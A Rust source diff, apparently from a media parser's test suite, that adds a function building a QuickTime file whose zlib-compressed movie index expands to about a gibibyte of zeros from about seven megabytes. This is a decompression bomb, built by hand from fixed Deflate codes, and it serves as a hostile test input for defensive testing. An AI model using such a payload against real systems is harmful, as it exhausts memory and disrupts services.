@@ -156,6 +156,29 @@ pub(crate) fn external_references(bait: &Bait, folder: &Path) -> Vec<(&'static s
     ]
 }
 
+/// A movie whose index is compressed and grows to a gibibyte of zeros, out of seven megabytes.
+pub(crate) fn compressed_index() -> Vec<u8> {
+    fn atom(kind: [u8; 4], body: &[u8]) -> Vec<u8> {
+        [&u32::try_from(body.len() + 8).unwrap().to_be_bytes(), kind.as_slice(), body].concat()
+    }
+    fn pack(bits: &[u8]) -> Vec<u8> {
+        bits.chunks(8).map(|byte| byte.iter().rev().fold(0, |sum, bit| sum << 1 | bit)).collect()
+    }
+    // Deflate with its fixed codes. "258 bytes like the one before" takes 13 bits.
+    const AGAIN: [u8; 13] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
+    // The only block; a zero; and again, which ends with a byte.
+    let first = pack(&[&[1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0], &AGAIN[..]].concat());
+    let eight = pack(&AGAIN.repeat(8));
+    let times = (1_u32 << 30) / (8 * 258);
+    let length = 1 + 258 * (1 + 8 * times);
+    let sum = (length % 65_521) << 16 | 1;
+    let more = eight.repeat(usize::try_from(times).unwrap());
+    let packed = [&[0x78, 0x01], first.as_slice(), &more, &[0], &sum.to_be_bytes()].concat();
+    let movie = atom(*b"cmvd", &[&length.to_be_bytes(), packed.as_slice()].concat());
+    let index = atom(*b"cmov", &[atom(*b"dcom", b"zlib"), movie].concat());
+    [atom(*b"ftyp", b"qt  \0\0\0\0qt  "), atom(*b"moov", &index), atom(*b"mdat", &[0; 64])].concat()
+}
+
 /// Replaces every data reference. `moov` is the last box, so no offset changes with its length.
 fn with_reference(mut file: Vec<u8>, entry: &[u8]) -> Vec<u8> {
     let entry = [u32::try_from(entry.len() + 4).unwrap().to_be_bytes().as_slice(), entry].concat();
